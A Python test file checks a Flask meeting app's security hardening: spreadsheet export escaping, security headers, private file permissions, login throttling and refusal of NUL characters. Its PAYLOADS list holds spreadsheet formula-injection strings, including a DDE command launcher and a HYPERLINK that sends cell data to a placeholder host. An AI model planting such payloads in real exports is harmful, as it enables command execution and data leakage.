"""Hardening, point by point (issue 11): spreadsheet payloads stay text in the exported
workbook; ids too large for the database are 404, not 500; an unknown live event is
answered; every page carries the security headers; the instance folder is private; a NUL
character is refused at the edge, in a page or a live event, before the database."""

from __future__ import annotations

import io
import os
import stat
from pathlib import Path

import pytest
import socketio
from flask_babel import force_locale, gettext
from openpyxl import load_workbook

from meeting import create_app
from meeting.domain.roles import Role
from meeting.exports import export
from meeting.extensions import db
from meeting.services import setup

from ..conftest import REPO, StaffClient, make_meeting
from .live import WAIT, staff_cookies, wait_until
from .test_migrations import postgres_url  # noqa: F401 - a fixture

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A2,"详情")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
)


def test_spreadsheet_payloads_are_written_as_text_never_as_formulas(app) -> None:
    meeting = make_meeting(representatives=1)
    for i, payload in enumerate(PAYLOADS):
        setup.add_member(meeting.id, f"{payload}{i}"[:64], Role.REPRESENTATIVE, "t")
        setup.add_household(
            meeting.id,
            setup.HouseholdDetails(head_name=payload[:64], persons=1, address=payload),
            "t",
        )
    book = load_workbook(io.BytesIO(export(meeting, "xlsx").data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    found = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@"]
    assert len(found) >= 2 * len(PAYLOADS)  # names and addresses, on two sheets
    assert all(cell.data_type == "s" for cell in found), [
        (cell.coordinate, cell.value, cell.data_type) for cell in found if cell.data_type != "s"
    ]


def test_an_id_too_large_for_the_database_is_not_found(staff) -> None:
    for path in (
        "/staff/meetings/1000000000000000000000000000000",
        "/staff/meetings/2147483648/audit",
        "/host/99999999999999999999",
    ):
        assert staff.get(path).status_code == 404, path
    assert staff.get("/staff/meetings/2147483647").status_code == 404  # the largest id: none


def test_an_unknown_live_event_is_answered_at_once(live_server, demo) -> None:
    client = socketio.Client(reconnection=False)
    cookies = "; ".join(f"{k}={v}" for k, v in staff_cookies(live_server).items())
    client.connect(
        live_server,
        auth={"meeting": demo.id, "view": "staff"},
        transports=["websocket"],
        headers={"Cookie": cookies},
        wait_timeout=WAIT,
    )
    try:
        answer = client.call("no_such_event", {"position": 1}, timeout=WAIT)
        assert answer == {"ok": False, "error": "无法识别的请求。", "code": "unknown_event"}
    finally:
        client.disconnect()


def test_every_page_carries_the_security_headers(client) -> None:
    for path in ("/login", "/staff/meetings", "/j/not-a-card", "/static/css/app.css"):
        response = client.get(path)
        headers = response.headers
        response.close()  # a static file is streamed: close it
        assert headers["X-Frame-Options"] == "DENY", path
        assert headers["X-Content-Type-Options"] == "nosniff", path
        assert headers["Referrer-Policy"] == "no-referrer", path
        policy = headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in policy, path
        # no inline script or style, no eval: the browser test runs every page under it
        assert "script-src 'self';" in policy and "style-src 'self';" in policy, path
        assert "unsafe" not in policy, path
        assert "camera=()" in headers["Permissions-Policy"], path


def test_the_instance_folder_and_its_files_are_private(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("MEETING_CONFIG", str(REPO / "config" / "testing.toml"))
    instance = tmp_path / "instance"
    instance.mkdir(mode=0o755)
    old = instance / "meeting.sqlite3"
    old.write_bytes(b"")
    old.chmod(0o644)  # a copy made before: narrowed at start-up
    saved = os.umask(0o022)
    try:
        create_app(instance_path=str(instance))
        fresh = instance / "made-after-start"
        fresh.write_text("x")
    finally:
        os.umask(saved)
    for path in (instance, instance / "secret_key", old, fresh):
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path


def test_sign_in_is_throttled_per_address_with_a_clear_message(app, client) -> None:
    from meeting.services.staff import create_staff

    from ..conftest import STAFF_PASSWORD, StaffClient

    create_staff("clerk", STAFF_PASSWORD)
    browser = StaffClient(client)
    answers = [
        browser.post("/login", {"username": "clerk", "password": f"wrong {i}"}).status_code
        for i in range(10)
    ]
    assert answers == [200] * 10
    refused = browser.post("/login", {"username": "clerk", "password": STAFF_PASSWORD})
    assert refused.status_code == 429
    assert "尝试次数过多" in refused.get_data(as_text=True)


def test_a_staff_session_ends_after_its_idle_time(app, client) -> None:
    from meeting.services.staff import create_staff

    from ..conftest import STAFF_PASSWORD, StaffClient

    create_staff("clerk", STAFF_PASSWORD)
    answer = StaffClient(client).post("/login", {"username": "clerk", "password": STAFF_PASSWORD})
    cookie = next(h for h in answer.headers.getlist("Set-Cookie") if h.startswith("session="))
    assert "Expires=" in cookie  # not a cookie that lives as long as the browser stays open
    assert app.config["PERMANENT_SESSION_LIFETIME"].total_seconds() == 480 * 60
    assert "remember_token" not in " ".join(answer.headers.getlist("Set-Cookie"))


def test_signing_out_and_freeing_a_seat_disconnect_their_screens_at_once(live_server, demo) -> None:
    import requests

    from .live import Phone, Screen

    cookies = staff_cookies(live_server)
    console = Screen(live_server, demo.id, "staff", cookies).connect()
    host = Screen(live_server, demo.id, "staff", staff_cookies(live_server)).connect()
    member = demo.members[0]
    phone = Phone(live_server)
    phone.scan(member)
    screen = phone.screen(demo.id)
    try:
        assert host.send("release_seat", {"member_id": member.id})["ok"]
        wait_until(lambda: not screen.client.connected, "the freed phone disconnected")
        session = requests.Session()
        session.cookies.update(cookies)
        page = session.get(live_server + "/staff/meetings").text
        token = page.split('name="csrf_token" value="')[1].split('"')[0]
        session.post(live_server + "/logout", data={"csrf_token": token})
        wait_until(lambda: not console.client.connected, "the signed-out console disconnected")
    finally:
        for client in (console, host, screen):
            client.close()


def test_a_nul_in_a_form_field_query_or_path_is_refused_with_a_clear_message(staff) -> None:
    from meeting.web.safety import NulCharacter

    from .test_access import fingerprint

    meeting = make_meeting(representatives=1)
    form = f"/staff/meetings/{meeting.id}/members/new"
    before = fingerprint()
    refused = staff.post(form, {"name": "王\x00五", "role": "representative"})
    assert refused.status_code == 400
    page = refused.get_data(as_text=True)
    with force_locale("zh"):  # the page's language; English until the catalogue has it
        assert gettext("The request was malformed.") in page
        assert str(NulCharacter.explanation) in page
    assert fingerprint() == before
    for path in (
        f"/staff/meetings/{meeting.id}?tab=%00",
        f"/staff/meetings/{meeting.id}/cards?member=1%00",
        "/j/abc%00def",
        "/staff/meetings/%00",
    ):
        assert staff.get(path).status_code == 400, path
    assert fingerprint() == before
    # the same form without the NUL is taken: it was the NUL that was refused
    assert staff.post(form, {"name": "王五", "role": "representative"}).status_code == 302
    assert fingerprint() != before


def test_an_id_too_large_for_the_database_in_a_form_is_not_a_server_error(app, client) -> None:
    from meeting.services.seats import entry_token

    meeting = make_meeting(representatives=1)
    page = f"/e/{meeting.id}/{entry_token(meeting)}"
    for member_id in (str(2**31), str(2**63), str(10**30), "-1"):
        answer = StaffClient(client).post(page, {"member_id": member_id})
        assert answer.status_code == 404, member_id  # no such member, as for any other id


def test_a_nul_in_a_live_event_is_refused_and_stores_nothing(live_server, demo) -> None:
    from .live import Screen

    secretary = Screen(live_server, demo.id, "staff", staff_cookies(live_server)).connect()
    hearing = demo.households[0].hearing
    notes = {"position": 1, "field": "statement_notes"}
    try:
        version = secretary.version
        for event, payload in (
            ("save_notes", {**notes, "text": "申请人称\x00收入减少"}),
            ("defer", {"position": 2, "reason": "申请人\x00未到场"}),
            ("recuse", {"position": 1, "member_id": demo.members[0].id, "reason": "亲属\x00"}),
        ):
            answer = secretary.send(event, payload)
            assert answer == {"ok": False, "error": "请求格式有误。"}, (event, answer)
        db.session.refresh(hearing)
        assert hearing.statement_notes in (None, "")
        assert current_version(demo.id) == version
        # the same notes without the NUL are saved: it was the NUL that was refused
        assert secretary.send("save_notes", {**notes, "text": "申请人称收入减少"})["ok"]
        db.session.refresh(hearing)
        assert hearing.statement_notes == "申请人称收入减少"
    finally:
        secretary.close()


def current_version(meeting_id: int) -> int:
    from meeting.store.models import Meeting

    db.session.expire_all()
    return db.session.get(Meeting, meeting_id).version


@pytest.mark.postgres
def test_on_postgresql_a_nul_is_refused_before_the_database_would_fail(
    postgres_url,  # noqa: F811 - the fixture
    tmp_path,
) -> None:
    from flask_migrate import upgrade
    from sqlalchemy.exc import SQLAlchemyError

    from meeting.extensions import socketio as server_socketio
    from meeting.services.demo import ensure_demo
    from meeting.services.staff import create_staff

    from ..conftest import STAFF_PASSWORD, FreshRequestClient

    app = create_app(
        {"TESTING": True, "server": {"database_url": postgres_url}}, instance_path=str(tmp_path)
    )
    app.test_client_class = FreshRequestClient
    with app.app_context():
        try:
            upgrade()
            meeting, _ = ensure_demo()
            # what the guard spares: PostgreSQL itself refuses a NUL with an error (a 500)
            with pytest.raises((SQLAlchemyError, ValueError)):
                setup.add_member(meeting.id, "王\x00五", Role.REPRESENTATIVE, "test")
            db.session.rollback()
            create_staff("clerk", STAFF_PASSWORD)
            staff = StaffClient(app.test_client())
            staff.post("/login", {"username": "clerk", "password": STAFF_PASSWORD})
            before = (len(meeting.members), current_version(meeting.id))
            form = f"/staff/meetings/{meeting.id}/members/new"
            refused = staff.post(form, {"name": "王\x00五", "role": "representative"})
            assert refused.status_code == 400
            console = server_socketio.test_client(
                app, flask_test_client=staff.client, auth={"meeting": meeting.id, "view": "staff"}
            )
            answer = console.emit(
                "save_notes",
                {"position": 1, "field": "statement_notes", "text": "\x00"},
                callback=True,
            )
            assert answer == {"ok": False, "error": "请求格式有误。"}
            console.disconnect()
            db.session.refresh(meeting)
            assert (len(meeting.members), current_version(meeting.id)) == before
        finally:
            db.session.remove()
            db.engine.dispose()


def test_the_server_header_names_no_software_version(live_server) -> None:
    """As `meeting serve --async threading` serves (gevent's server sends no Server header:
    test_cli.py's demo)."""
    import requests

    with requests.Session() as browser:
        for path in ("/login", "/static/css/app.css", "/no-such-page"):
            server = browser.get(live_server + path).headers.get("Server", "")
            assert server == "meeting", (path, server)
